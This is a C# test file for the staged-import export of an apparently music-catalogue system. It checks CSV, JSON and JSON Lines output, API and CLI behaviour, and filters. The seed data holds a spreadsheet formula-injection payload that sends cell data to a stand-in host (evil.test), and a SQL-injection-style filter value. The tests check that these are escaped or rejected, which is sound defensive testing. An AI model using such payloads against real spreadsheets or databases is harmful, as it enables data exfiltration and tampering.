using System.CommandLine;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Dapper;
using Grantha.Api;
using Grantha.Cli;
using Grantha.Engine;
using Grantha.Manifest;
using Grantha.Review;
using Grantha.Tests.Api;
using Grantha.Tests.Extract;

namespace Grantha.Tests.Review;

/// <summary>The QA export of staged imports: CSV, JSON and JSON Lines, the CLI and the API, on both stores.</summary>
[Collection(nameof(ConsoleCapture))]
public class ExportTests
{
    static CancellationToken Ct => TestContext.Current.CancellationToken;

    const string EvilKrithi = "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")";

    /// <summary>A batch as RESOLVE leaves it: five manifest rows (one URL listed twice) in four imports, one accepted row with no import yet.</summary>
    sealed record Seeded(long Batch, long OtherBatch, long[] Imports);

    static async Task<Seeded> SeedAsync(Db db)
    {
        var batch = await ExtractStageTests.BatchAsync(db, "RESOLVE");
        var other = await ExtractStageTests.BatchAsync(db, "RESOLVE");
        await ExtractStageTests.AddManifestRowsAsync(db, batch,
            (2, "accepted", EvilKrithi, "tODi", "http://a.test/1"),
            (3, "accepted", "+1", "-2", "http://a.test/2"),
            (4, "accepted", "@x", "\tkalyani", "http://a.test/3"),
            (5, "accepted", "kamalAmbA, navAvaraNa", "\"bhairavi\"", "http://a.test/4"),
            (6, "accepted", "second listing", "tODi", "http://a.test/1"),
            (7, "accepted", "not staged yet", null, "http://a.test/7"));
        await ExtractStageTests.AddManifestRowsAsync(db, other, (2, "accepted", "elsewhere", "kalyani", "http://b.test/1"));

        const string decisions = """{"title":"x","names":[{"kind":"raga","source":"manifest","input":"tODi","status":"matched","match":{"id":"todi","name":"Todi"}},{"kind":"composer","source":"page","input":"dIkshitar","status":"needs_review","match":null}]}""";
        var i1 = await ImportAsync(db, batch, "http://a.test/1", "resolved", decisions, "[]", "[]", 2, 6);
        var i2 = await ImportAsync(db, batch, "http://a.test/2", "needs_review", "{}",
            $$"""[{"kind":"duplicate","otherId":{{i1}},"otherBatchId":{{batch}},"otherTitle":"x","reason":"same"}]""",
            """[{"code":"no_lyrics","message":"no lyrics on the page","penalty":0.3}]""", 3);
        var i3 = await ImportAsync(db, batch, "http://a.test/3", "resolved", "{}",
            $$"""[{"kind":"near_duplicate","otherId":{{i1}},"otherBatchId":{{batch}},"otherTitle":"x","reason":"near"}]""", "[]", 4);
        var i4 = await ImportAsync(db, batch, "http://a.test/4", "needs_review", "{}", "[]", "[]", 5);
        await ImportAsync(db, other, "http://b.test/1", "resolved", "{}", "[]", "[]", 2);
        return new Seeded(batch, other, [i1, i2, i3, i4]);
    }

    static Task<long> ImportAsync(Db db, long batch, string url, string status, string decisions, string flags, string reasons, params int[] rowNumbers) =>
        db.WriteAsync(async (c, tx) =>
        {
            var id = await c.ExecuteScalarAsync<long>("""
                INSERT INTO staged_import (batch_id, url, extraction_id, status, title, decisions, duplicate_flags, quality, quality_reasons, created_at, updated_at,
                                           review_state, flags)
                VALUES (@batch, @url, 1, @status, 'title', @decisions, @flags, 0.7, @reasons, 0, 0, @state, @bits) RETURNING id
                """, new { batch, url, status, decisions, flags, reasons, state = status == "needs_review" ? ReviewStates.NeedsReview : ReviewStates.Ready,
                    bits = (status == "needs_review" ? ReviewFlags.Unresolved : 0) | (flags.Contains("\"duplicate\"") ? ReviewFlags.Duplicate : 0)
                           | (flags.Contains("near_duplicate") ? ReviewFlags.NearDuplicate : 0) }, tx);
            foreach (var row in rowNumbers)
                await c.ExecuteAsync("""
                    INSERT INTO staged_import_row (staged_import_id, manifest_row_id)
                    SELECT @id, id FROM manifest_row WHERE batch_id = @batch AND row_number = @row
                    """, new { id, batch, row }, tx);
            return id;
        }, Ct);

    internal static async Task<string> ExportAsync(Db db, ExportFilter filter, ExportFormat format, bool bom = false)
    {
        using var ms = new MemoryStream();
        await Export.WriteAsync(db, filter, format, ms, bom, Ct);
        return Encoding.UTF8.GetString(ms.ToArray());
    }

    static Task<long> CountAsync(Db db, string sql, long batch) => db.ReadAsync(c => c.ExecuteScalarAsync<long>(sql, new { batch }), Ct);

    internal static string[] Lines(string text) => text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimEnd('\r')).ToArray();

    [Theory, MemberData(nameof(TestDb.Stores), MemberType = typeof(TestDb))]
    public async Task Csv_has_a_line_per_manifest_row_and_jsonl_a_line_per_import(string store)
    {
        await using var t = await TestDb.CreateAsync(store);
        var s = await SeedAsync(t.Db);
        var rows = await CountAsync(t.Db, "SELECT COUNT(*) FROM staged_import_row r JOIN staged_import s ON s.id = r.staged_import_id WHERE s.batch_id = @batch", s.Batch);
        var imports = await CountAsync(t.Db, "SELECT COUNT(*) FROM staged_import WHERE batch_id = @batch", s.Batch);
        (rows, imports).ShouldBe((5L, 4L));

        var csv = Lines(await ExportAsync(t.Db, new(s.Batch), ExportFormat.Csv));
        csv[0].ShouldBe("Krithi,Raga,Hyperlink,state,quality,decisions,flags,warnings,reviewer,reason,batch,import_id");
        (csv.Length - 1).ShouldBe((int)rows);
        Lines(await ExportAsync(t.Db, new(s.Batch), ExportFormat.Jsonl)).Length.ShouldBe((int)imports);

        // The first import's line carries its status, quality and the summaries; the review columns are there, empty.
        csv[1].ShouldEndWith($",ready,0.7,raga tODi=todi; composer dIkshitar=?needs_review,,,,,{s.Batch},{s.Imports[0]}");
        csv.ShouldContain(l => l.EndsWith($",needs_review,0.7,,duplicate of #{s.Imports[0]},no lyrics on the page,,,{s.Batch},{s.Imports[1]}"));

        // Filters: state, flag; the other batch never leaks in.
        Lines(await ExportAsync(t.Db, new(s.Batch, State: "needs_review"), ExportFormat.Jsonl)).Length.ShouldBe(2);
        var dup = Lines(await ExportAsync(t.Db, new(s.Batch, Flag: "duplicate"), ExportFormat.Jsonl)).ShouldHaveSingleItem();
        JsonDocument.Parse(dup).RootElement.GetProperty("import_id").GetInt64().ShouldBe(s.Imports[1]);
        var near = Lines(await ExportAsync(t.Db, new(s.Batch, Flag: "near_duplicate"), ExportFormat.Csv));
        near.Length.ShouldBe(2);
        near[1].ShouldEndWith($",{s.Imports[2]}");
        Lines(await ExportAsync(t.Db, new(s.Batch, State: "ready", Flag: "duplicate"), ExportFormat.Csv)).Length.ShouldBe(1);
        Lines(await ExportAsync(t.Db, new(s.OtherBatch), ExportFormat.Csv)).Length.ShouldBe(2);
        // No batch: every batch's imports, in id order, and the filters still hold.
        var everyBatch = Lines(await ExportAsync(t.Db, new(null), ExportFormat.Jsonl)).Select(l => JsonDocument.Parse(l).RootElement).ToList();
        everyBatch.Select(x => x.GetProperty("import_id").GetInt64()).ShouldBe([.. s.Imports, s.Imports.Max() + 1]);
        everyBatch.Select(x => x.GetProperty("batch").GetInt64()).Distinct().ShouldBe([s.Batch, s.OtherBatch]);
        (Lines(await ExportAsync(t.Db, new(null), ExportFormat.Csv)).Length - 1).ShouldBe(6);
        Lines(await ExportAsync(t.Db, new(null, State: "needs_review"), ExportFormat.Jsonl)).Length.ShouldBe(2);

        await Should.ThrowAsync<ArgumentException>(() => ExportAsync(t.Db, new(s.Batch, State: "approved'; --"), ExportFormat.Csv));
        await Should.ThrowAsync<ArgumentException>(() => ExportAsync(t.Db, new(s.Batch, Flag: "dup"), ExportFormat.Csv));
        await Should.ThrowAsync<BatchNotFoundException>(() => ExportAsync(t.Db, new(9999), ExportFormat.Csv));
    }

    [Theory, MemberData(nameof(TestDb.Stores), MemberType = typeof(TestDb))]
    public async Task Formula_like_cells_are_escaped_and_the_csv_reads_back_as_a_manifest(string store)
    {
        await using var t = await TestDb.CreateAsync(store);
        var s = await SeedAsync(t.Db);
        var text = await ExportAsync(t.Db, new(s.Batch), ExportFormat.Csv, bom: true);
        text[0].ShouldBe('\uFEFF');

        // OWASP: a leading single quote, and the cell quoted (RFC 4180 doubles the quotes inside).
        text.ShouldContain("\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"click\"\")\",tODi,http://a.test/1,");
        text.ShouldContain("\"'+1\",\"'-2\",http://a.test/2,");
        text.ShouldContain("\"'@x\",\"'\tkalyani\",http://a.test/3,");
        text.ShouldContain("\"kamalAmbA, navAvaraNa\",\"\"\"bhairavi\"\"\",http://a.test/4,");
        foreach (var line in Lines(text).Skip(1))
            line[0].ShouldNotBeOneOf('=', '+', '-', '@', '\t', '\r');

        // The first three columns are a manifest: every line is an accepted row, with the URLs in order.
        using var ms = new MemoryStream(Encoding.UTF8.GetBytes(text));
        var read = new List<ManifestLine>();
        await foreach (var l in ManifestReader.ReadAsync(ms, "export.csv", ct: Ct)) read.Add(l);
        var accepted = read.Select(l => l.ShouldBeOfType<ManifestRow>()).ToList();
        var urls = await t.Db.ReadAsync(c => c.QueryAsync<string>("""
            SELECT m.url FROM staged_import s JOIN staged_import_row r ON r.staged_import_id = s.id JOIN manifest_row m ON m.id = r.manifest_row_id
             WHERE s.batch_id = @batch ORDER BY s.id, m.id
            """, new { batch = s.Batch }), Ct);
        accepted.Select(r => r.Url).ShouldBe(urls);
        accepted[0].Krithi.ShouldBe("'" + EvilKrithi);
        accepted.Select(r => r.Raga).ShouldContain("\"bhairavi\"");
    }

    [Theory, MemberData(nameof(TestDb.Stores), MemberType = typeof(TestDb))]
    public async Task Json_is_one_array_of_imports_with_their_manifest_rows(string store)
    {
        await using var t = await TestDb.CreateAsync(store);
        var s = await SeedAsync(t.Db);
        var json = JsonDocument.Parse(await ExportAsync(t.Db, new(s.Batch), ExportFormat.Json)).RootElement;
        json.GetArrayLength().ShouldBe(4);
        var first = json[0];
        first.EnumerateObject().Select(p => p.Name).ShouldBe(
            ["import_id", "batch", "state", "url", "title", "quality", "decisions", "flags", "warnings", "reviewer", "reason", "krithi_id", "rows"]);
        first.GetProperty("import_id").GetInt64().ShouldBe(s.Imports[0]);
        first.GetProperty("state").GetString().ShouldBe("ready");
        first.GetProperty("decisions").GetString().ShouldBe("raga tODi=todi; composer dIkshitar=?needs_review");
        var rows = first.GetProperty("rows").EnumerateArray().ToList();
        rows.Select(r => (r.GetProperty("Krithi").GetString(), r.GetProperty("row").GetInt64())).ShouldBe([(EvilKrithi, 2L), ("second listing", 6L)]);
        rows.ShouldAllBe(r => r.GetProperty("Hyperlink").GetString() == "http://a.test/1");
        json[1].GetProperty("flags").GetString().ShouldBe($"duplicate of #{s.Imports[0]}");
        json[1].GetProperty("warnings").GetString().ShouldBe("no lyrics on the page");
        JsonDocument.Parse(await ExportAsync(t.Db, new(s.Batch, Flag: "in_catalog"), ExportFormat.Json)).RootElement.GetArrayLength().ShouldBe(0);
    }

    [Theory, MemberData(nameof(TestDb.Stores), MemberType = typeof(TestDb))]
    public async Task Thousands_of_rows_stream_out_whole(string store)
    {
        await using var t = await TestDb.CreateAsync(store);
        var batch = await ExtractStageTests.BatchAsync(t.Db, "RESOLVE");
        const int n = 3000;
        await ExtractStageTests.AddManifestRowsAsync(t.Db, batch, Enumerable.Range(2, n).Select(i => (i, "accepted", (string?)$"krithi {i}", (string?)"todi", $"http://a.test/{i}")).ToArray());
        await t.Db.WriteAsync(async (c, tx) =>
        {
            await c.ExecuteAsync("""
                INSERT INTO staged_import (batch_id, url, extraction_id, status, decisions, duplicate_flags, quality, quality_reasons, created_at, updated_at)
                SELECT batch_id, url, 1, 'resolved', '{}', '[]', 1, '[]', 0, 0 FROM manifest_row WHERE batch_id = @batch
                """, new { batch }, tx);
            await c.ExecuteAsync("""
                INSERT INTO staged_import_row (staged_import_id, manifest_row_id)
                SELECT s.id, m.id FROM staged_import s JOIN manifest_row m ON m.batch_id = s.batch_id AND m.url = s.url WHERE s.batch_id = @batch
                """, new { batch }, tx);
        }, Ct);
        // Several flushes of the 32 KB buffer: the object boundaries across them must stay valid.
        var jsonl = Lines(await ExportAsync(t.Db, new(batch), ExportFormat.Jsonl));
        jsonl.Length.ShouldBe(n);
        jsonl.Select(l => JsonDocument.Parse(l).RootElement.GetProperty("rows")[0].GetProperty("Hyperlink").GetString()).Distinct().Count().ShouldBe(n);
        JsonDocument.Parse(await ExportAsync(t.Db, new(batch), ExportFormat.Json)).RootElement.GetArrayLength().ShouldBe(n);
        Lines(await ExportAsync(t.Db, new(batch), ExportFormat.Csv)).Length.ShouldBe(n + 1);
    }

    [Theory, MemberData(nameof(TestDb.Stores), MemberType = typeof(TestDb))]
    public async Task Api_streams_an_attachment_and_refuses_bad_requests(string store)
    {
        await using var f = await ApiFixture.StartAsync(store);
        var s = await SeedAsync(f.Store.Db);
        var viewer = f.Client(Role.Viewer);

        var csv = await viewer.GetAsync($"/v1/admin/export?batch={s.Batch}&format=csv", Ct);
        csv.StatusCode.ShouldBe(HttpStatusCode.OK);
        csv.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        csv.Content.Headers.ContentDisposition!.ToString().ShouldBe($"attachment; filename=\"batch-{s.Batch}-staged.csv\"");
        Lines(await csv.Content.ReadAsStringAsync(Ct)).Length.ShouldBe(6);

        var jsonl = await viewer.GetAsync($"/v1/admin/export?batch={s.Batch}&format=jsonl&state=needs_review", Ct);
        jsonl.StatusCode.ShouldBe(HttpStatusCode.OK);
        jsonl.Content.Headers.ContentType!.MediaType.ShouldBe("application/x-ndjson");
        Lines(await jsonl.Content.ReadAsStringAsync(Ct)).Select(l => JsonDocument.Parse(l).RootElement.GetProperty("state").GetString()).ShouldBe(["needs_review", "needs_review"]);

        var json = await viewer.GetAsync($"/v1/admin/export?batch={s.Batch}&format=json&flag=duplicate", Ct);
        json.Content.Headers.ContentType!.MediaType.ShouldBe("application/json");
        JsonDocument.Parse(await json.Content.ReadAsStringAsync(Ct)).RootElement.GetArrayLength().ShouldBe(1);

        // No batch: every batch's staged imports (QA's whole picture), the queue's filters still apply.
        var all = await viewer.GetAsync("/v1/admin/export?format=csv", Ct);
        all.StatusCode.ShouldBe(HttpStatusCode.OK);
        all.Content.Headers.ContentDisposition!.ToString().ShouldBe("attachment; filename=\"staged.csv\"");
        Lines(await all.Content.ReadAsStringAsync(Ct)).Length.ShouldBe(7);
        var allReady = await viewer.GetAsync("/v1/admin/export?format=jsonl&state=ready", Ct);
        Lines(await allReady.Content.ReadAsStringAsync(Ct)).Select(l => JsonDocument.Parse(l).RootElement.GetProperty("batch").GetInt64()).ShouldBe([s.Batch, s.Batch, s.OtherBatch]);

        var bad = await viewer.GetAsync($"/v1/admin/export?batch={s.Batch}&format=xlsx", Ct);
        bad.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        bad.Content.Headers.ContentType!.MediaType.ShouldBe("application/problem+json");
        (await bad.Content.ReadAsStringAsync(Ct)).ShouldContain("xlsx");
        (await viewer.GetAsync($"/v1/admin/export?batch={s.Batch}&flag=nope", Ct)).StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await viewer.GetAsync("/v1/admin/export?batch=abc", Ct)).StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await viewer.GetAsync("/v1/admin/export?batch=9999&format=csv", Ct)).StatusCode.ShouldBe(HttpStatusCode.NotFound);
        (await f.Client(null).GetAsync($"/v1/admin/export?batch={s.Batch}&format=csv", Ct)).StatusCode.ShouldBe(HttpStatusCode.Unauthorized);
    }

    [Theory, MemberData(nameof(TestDb.Stores), MemberType = typeof(TestDb))]
    public async Task Api_export_takes_every_filter_of_the_review_queue_and_holds_what_the_queue_lists(string store)
    {
        await using var f = await ApiFixture.StartAsync(store);
        var s = await SeedAsync(f.Store.Db);
        await f.Store.Db.WriteAsync((c, tx) => c.ExecuteAsync(
            "UPDATE staged_import SET quality = CASE WHEN id = @i3 THEN 0.95 ELSE quality END, title_key = CASE WHEN id = @i4 THEN @key ELSE 'title' END WHERE batch_id = @b",
            new { i3 = s.Imports[2], i4 = s.Imports[3], b = s.Batch, key = Grantha.Reference.NameKey.Of("kamalAmbA navAvaraNa") }, tx), Ct);
        var viewer = f.Client(Role.Viewer);

        foreach (var (filter, expected) in new (string, long[])[]
                 {
                     ("minQuality=0.9", [s.Imports[2]]),
                     ("text=Kamalamba", [s.Imports[3]]),
                     ("state=ready,needs_review&noFlags=true", [s.Imports[0]]),
                     ("withoutFlag=unresolved&maxQuality=0.8", [s.Imports[0]]),
                     ("state=ready&flag=near_duplicate", [s.Imports[2]]),
                 })
        {
            var export = await viewer.GetAsync($"/v1/admin/export?batch={s.Batch}&format=jsonl&{filter}", Ct);
            export.StatusCode.ShouldBe(HttpStatusCode.OK, filter);
            var ids = Lines(await export.Content.ReadAsStringAsync(Ct)).Select(l => JsonDocument.Parse(l).RootElement.GetProperty("import_id").GetInt64()).ToArray();
            ids.ShouldBe(expected, filter);
            // The queue lists the same imports for the same filter.
            var queue = await viewer.GetFromJsonAsync<JsonElement>($"/v1/admin/review?batch={s.Batch}&{filter}", Ct);
            queue.GetProperty("items").EnumerateArray().Select(i => i.GetProperty("id").GetInt64()).Order().ToArray().ShouldBe(expected, filter);
        }
        foreach (var bad in new[] { "minQuality=abc", "minQuality=2", "noFlags=maybe", "state=ready,nope", "withoutFlag=nope", "composerMin=x" })
            (await viewer.GetAsync($"/v1/admin/export?batch={s.Batch}&{bad}", Ct)).StatusCode.ShouldBe(HttpStatusCode.BadRequest, bad);
    }

    internal static async Task<(int Code, string Err)> RunAsync(params string[] args)
    {
        var root = new RootCommand { Commands.DbOption };
        root.Add(ExportCommand.Build());
        var oldErr = Console.Error;
        var e = new StringWriter();
        Console.SetError(e);
        try { return (await root.Parse(args).InvokeAsync(cancellationToken: Ct), e.ToString()); }
        finally { Console.SetError(oldErr); }
    }

    [Theory, MemberData(nameof(TestDb.Stores), MemberType = typeof(TestDb))]
    public async Task Cli_writes_a_file_and_bad_options_exit_with_a_message(string store)
    {
        await using var t = await TestDb.CreateAsync(store);
        var s = await SeedAsync(t.Db);
        var dir = Path.Combine(Path.GetTempPath(), "grantha-export", Guid.NewGuid().ToString("n"));
        Directory.CreateDirectory(dir);
        try
        {
            var file = Path.Combine(dir, "qa.csv");
            var (code, err) = await RunAsync("export", "--db", t.Spec, "--batch", s.Batch.ToString(), "--format", "csv", "--bom", "--out", file);
            (code, err).ShouldBe((0, $"batch {s.Batch}: 5 manifest rows written to {file}\n".ReplaceLineEndings()));
            var bytes = await File.ReadAllBytesAsync(file, Ct);
            bytes.Take(3).ShouldBe(new byte[] { 0xEF, 0xBB, 0xBF });
            Lines(Encoding.UTF8.GetString(bytes)).Length.ShouldBe(6);
            File.Exists(file + ".part").ShouldBeFalse();

            var jsonl = Path.Combine(dir, "qa.jsonl");
            (await RunAsync("export", "--db", t.Spec, "--batch", s.Batch.ToString(), "--format", "jsonl", "--flag", "duplicate", "--out", jsonl)).Code.ShouldBe(0);
            Lines(await File.ReadAllTextAsync(jsonl, Ct)).ShouldHaveSingleItem();

            var (badFormat, badErr) = await RunAsync("export", "--db", t.Spec, "--batch", s.Batch.ToString(), "--format", "xlsx", "--out", Path.Combine(dir, "x"));
            (badFormat, badErr.Contains("csv, json or jsonl")).ShouldBe((ExitCodes.BadInput, true));
            // Without a batch: every batch's staged imports (the seeded batch's five rows and the other's one).
            var all = Path.Combine(dir, "all.csv");
            (await RunAsync("export", "--db", t.Spec, "--what", "staged", "--out", all)).ShouldBe((0, $"all batches: 6 manifest rows written to {all}\n".ReplaceLineEndings()));
            Lines(await File.ReadAllTextAsync(all, Ct)).Skip(1).Select(l => l.Split(',')[^2]).Distinct().ShouldBe([s.Batch.ToString(), s.OtherBatch.ToString()]);
            var (krithiFilter, krithiFilterErr) = await RunAsync("export", "--db", t.Spec, "--batch", s.Batch.ToString(), "--raga", "todi", "--out", Path.Combine(dir, "z"));
            (krithiFilter, krithiFilterErr.Contains("filter krithis, not staged imports")).ShouldBe((ExitCodes.BadInput, true));
            (await RunAsync("export", "--db", t.Spec, "--batch", "9999", "--out", Path.Combine(dir, "y"))).Code.ShouldBe(ExitCodes.NotFound);
            Directory.GetFiles(dir).Select(Path.GetFileName).Order().ShouldBe(["all.csv", "qa.csv", "qa.jsonl"]);
        }
        finally { Directory.Delete(dir, true); }
    }
}
